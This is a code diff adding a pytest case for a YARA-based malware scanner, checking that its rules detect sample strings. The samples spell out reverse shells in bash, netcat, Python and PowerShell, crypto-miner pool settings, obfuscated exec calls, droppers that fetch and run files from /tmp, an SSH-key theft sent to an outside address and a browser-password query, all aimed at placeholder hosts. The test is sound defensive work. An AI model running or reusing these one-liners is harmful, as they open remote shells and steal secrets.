@@ -311,3 +311,61 @@ def test_rules_kept_elsewhere_are_compiled_after_the_folder(tmp_path: Path) -> N
     broken = YaraScanner.from_settings(None, extra=[RuleSource("rule bad", "rule bad {")])
     with pytest.raises(ScannerUnavailableError, match="rules rule bad: syntax error"):
         list(broken.scan_member(SUBJECT, _member(b"x")))
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        (
+            "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
+            "revshell_bash_dev_tcp",
+        ),
+        ('/bin/bash -c "bash -i > /dev/tcp/203.0.113.7/80 0<&1 2>&1"', "revshell_bash_dev_tcp"),
+        ("ncat 203.0.113.7 4444 -e /bin/bash", "revshell_netcat_exec"),
+        ("busybox nc 203.0.113.7 80 -e sh", "revshell_netcat_exec"),
+        (
+            'python3 -c \'import socket,os;s=socket.socket();s.connect(("203.0.113.7",1234));'
+            'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn("sh")\'',
+            "revshell_python_socket_dup2",
+        ),
+        (
+            "$c = New-Object System.Net.Sockets.TCPClient 203.0.113.7,80;$s = $c.GetStream();"
+            "iex ([text.encoding]::ASCII.GetString($b))",
+            "revshell_powershell_tcpclient",
+        ),
+        ('{"url": "stratum+ssl://pool.example.net:443"}', "miner_stratum_url"),
+        ("xmrig --donate-level=1 -o pool.example.net:3333", "miner_xmrig_config"),
+        ("eval(compile(base64.b64decode(x), '<string>', 'exec'))", "obfuscated_exec_decoded"),
+        ("exec(bytes.fromhex('7072696e742831 29').decode())", "obfuscated_exec_decoded"),
+        ("exec(codecs.decode('cevag(1)', 'rot13'))", "obfuscated_exec_decoded"),
+        ("exec(zlib.decompress(b'x\\x9c+(\\xca\\xcc+'))", "obfuscated_exec_decoded"),
+        ("exec(''.join(map(chr, [112, 114, 105])))", "obfuscated_exec_chr_join"),
+        ("exec(bytes([112, 114, 105, 110, 116]))", "obfuscated_exec_chr_join"),
+        ("f = types.FunctionType(marshal.loads(blob), globals())", "obfuscated_marshal_loads"),
+        (
+            "wget -q http://203.0.113.5/y -O /tmp/y; chmod 777 /tmp/y; /tmp/y &",
+            "dropper_shell_tmp_exec",
+        ),
+        (
+            "r = requests.get(U); p = '/tmp/.cache-x'\nopen(p, 'wb').write(r.content)\n"
+            "os.chmod(p, stat.S_IEXEC | stat.S_IREAD)\nos.system(p)\n",
+            "dropper_python_tmp_exec",
+        ),
+        (
+            "(New-Object Net.WebClient).DownloadString('https://203.0.113.5/a.ps1') | iex",
+            "dropper_powershell_download_exec",
+        ),
+        (
+            "k = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"
+            "urllib.request.urlopen('https://203.0.113.9/k', data=k.encode())",
+            "stealer_secret_file_exfil",
+        ),
+        (
+            "c.execute('SELECT origin_url, username_value, password_value FROM logins')",
+            "stealer_browser_passwords",
+        ),
+    ],
+)
+def test_variants_are_found(scanner: YaraScanner, text: str, rule: str) -> None:
+    rules = [f.rule for f in scanner.scan_member(SUBJECT, _member(text.encode()))]
+    assert f"yara:stockade_{rule}" in rules
